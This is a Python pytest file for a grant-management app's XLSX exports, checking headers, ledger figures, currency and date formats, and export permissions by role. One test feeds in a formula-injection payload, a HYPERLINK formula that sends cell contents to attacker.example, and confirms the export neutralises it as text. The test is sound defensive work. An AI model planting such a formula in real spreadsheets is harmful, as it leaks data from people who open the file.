"""The XLSX exports read back with openpyxl: a bold frozen header, amounts as numbers with their currency,
dates as dates, the ledger's figures, and text that cannot run as a formula."""

import io
from datetime import datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from fundapp.disbursements import ledger
from fundapp.reports import spreadsheets
from tests.factories import make_organisation
from tests.reports import make_portfolio

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'


@pytest.fixture
def portfolio(db):
    return make_portfolio()


def read(data):
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    return sheet, rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_grants_have_a_bold_frozen_header(db, portfolio):
    sheet, header, _rows = read(spreadsheets.grants_xlsx(db.session))
    assert header[:3] == ("Reference", "Title", "Organisation")
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"


def test_grant_figures_are_numbers_equal_to_the_ledger(db, portfolio):
    _sheet, _header, rows = read(spreadsheets.grants_xlsx(db.session))
    by_reference = {row["Reference"]: row for row in rows}
    for grant in [*portfolio.published, portfolio.unsigned, portfolio.cancelled]:
        row = by_reference[grant.reference]
        figures = ledger.grant_figures(db.session, grant)
        assert row["Currency"] == "KZT"
        assert row["State"] == grant.state.value
        for column, money in (
            ("Amount", grant.amount),
            ("Committed", figures.committed),
            ("Released", figures.released),
            ("Refunded", figures.refunded),
            ("Outstanding", figures.outstanding),
        ):
            assert isinstance(row[column], int | float), column
            assert Decimal(str(row[column])) == money.amount, (grant.reference, column)
    paid = by_reference[portfolio.paid.reference]
    assert isinstance(paid["Start"], datetime)  # openpyxl reads a date cell back as a datetime
    assert paid["Start"].date() == portfolio.paid.start_date
    assert Decimal(str(paid["Refunded"])) == Decimal("250000.50")


def test_amount_cells_show_the_currency_decimals(db, portfolio):
    sheet, header, _rows = read(spreadsheets.grants_xlsx(db.session))
    amount = sheet.cell(row=2, column=header.index("Amount") + 1)
    assert amount.number_format == "#,##0.00"
    start = sheet.cell(row=2, column=header.index("Start") + 1)
    assert start.number_format == "yyyy-mm-dd"


def test_tranches_list_every_tranche_with_its_payment(db, portfolio):
    _sheet, _header, rows = read(spreadsheets.tranches_xlsx(db.session))
    first = portfolio.paid.tranches[0]
    (row,) = [r for r in rows if r["Grant"] == portfolio.paid.reference and r["Tranche"] == 1]
    assert row["State"] == "released"
    assert Decimal(str(row["Amount"])) == first.amount.amount
    assert row["Paid on"].date() == first.paid_on
    assert "Bank reference" not in row  # payments' bank references are for finance officers only
    assert len(rows) == sum(
        len(g.tranches) for g in [*portfolio.published, portfolio.unsigned, portfolio.cancelled]
    )


def test_contributions_show_both_currencies_and_the_allocation(db, portfolio):
    _sheet, _header, rows = read(spreadsheets.contributions_xlsx(db.session))
    (row,) = [r for r in rows if r["Donor"] == "Caspian Seal Trust"]
    contribution = portfolio.contribution
    assert (row["Currency"], row["Base currency"]) == ("EUR", "KZT")
    assert Decimal(str(row["Amount"])) == Decimal("200000.00")
    assert Decimal(str(row["Rate"])) == Decimal("540.25")
    assert Decimal(str(row["Base amount"])) == contribution.base_amount.amount
    assert Decimal(str(row["Allocated to grants"])) > 0
    assert row["Bank reference"] == contribution.bank_reference
    assert row["Value date"].date() == contribution.value_date


def test_a_formula_in_a_name_is_shown_as_text(db):
    from tests.disbursements.factories import make_grant

    organisation = make_organisation(name_en=FORMULA)
    grant = make_grant(organisation=organisation, active=True)
    _sheet, _header, rows = read(spreadsheets.grants_xlsx(db.session))
    (row,) = [r for r in rows if r["Reference"] == grant.reference]
    assert row["Organisation"] == "'" + FORMULA
    data = spreadsheets.grants_xlsx(db.session)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for c in sheet["C"] if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_an_empty_fund_gives_a_header_only(db):
    _sheet, header, rows = read(spreadsheets.contributions_xlsx(db.session))
    assert header[0] == "Donor reference"
    assert rows == []


def test_can_export_follows_roles(db):
    from fundapp.core.permissions import Role
    from tests.factories import make_user

    finance = make_user(roles=(Role.FINANCE_OFFICER,))
    officer = make_user(roles=(Role.PROGRAMME_OFFICER,))
    applicant = make_user()
    assert spreadsheets.can_export_grants(officer) and spreadsheets.can_export_grants(finance)
    assert not spreadsheets.can_export_grants(applicant)
    assert spreadsheets.can_export_contributions(finance)
    assert not spreadsheets.can_export_contributions(officer)
